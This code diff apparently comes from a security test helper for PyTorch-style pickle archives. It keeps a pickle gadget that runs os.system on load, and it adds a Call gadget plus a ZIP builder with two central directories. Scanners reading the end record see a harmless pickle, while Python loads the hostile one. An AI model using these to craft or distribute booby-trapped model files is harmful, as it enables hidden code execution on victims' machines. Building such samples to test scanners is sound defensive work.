@@ -6,7 +6,10 @@ import io
 import itertools
 import json
 import os
+import pickle
+import struct
 import zipfile
+import zlib
 from typing import Any
 
 import torch
@@ -20,6 +23,38 @@ class Payload:
 
     def __reduce__(self) -> Any:
         return os.system, (self.command,)
+
+
+class Call:
+    """Unpickling it calls a function, and sets attributes of what that gives."""
+
+    def __init__(self, *parts: Any):
+        self.parts = parts
+
+    def __reduce__(self) -> Any:
+        return self.parts
+
+
+def two_directories(value: Any, shown: Any) -> bytes:
+    """An archive of one pickle for readers that go by what its end says; Python takes the directory right before that,
+    which is of another."""
+    files, directories = b"", []
+    for content in (pickle.dumps(value, 2), pickle.dumps(shown, 2)):
+        directory = b""
+        for name, data in ((b"archive/data.pkl", content), (b"archive/version", b"3\n")):
+            head = struct.pack("<3HI3IHH", 20, 0, 0, 0x21 << 16, zlib.crc32(data), len(data), len(data), len(name), 0)
+            directory += b"PK\1\2\x14\0" + head + struct.pack("<3H2I", 0, 0, 0, 0, len(files)) + name
+            files += b"PK\3\4" + head + name + data
+        directories.append(directory)
+    first, second = directories
+    # what Python adds to each place, since the directory is not where the end says
+    moved = bytearray()
+    for entry in (second[: 46 + 16], second[46 + 16 :]):
+        (place,) = struct.unpack_from("<I", entry, 42)
+        moved += entry[:42] + struct.pack("<I", place - len(first)) + entry[46:]
+    assert len(first) == len(second)
+    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 2, 2, len(first), len(files), 0)
+    return files + first + bytes(moved) + end
 
 
 def zipped(value: Any) -> bytes:
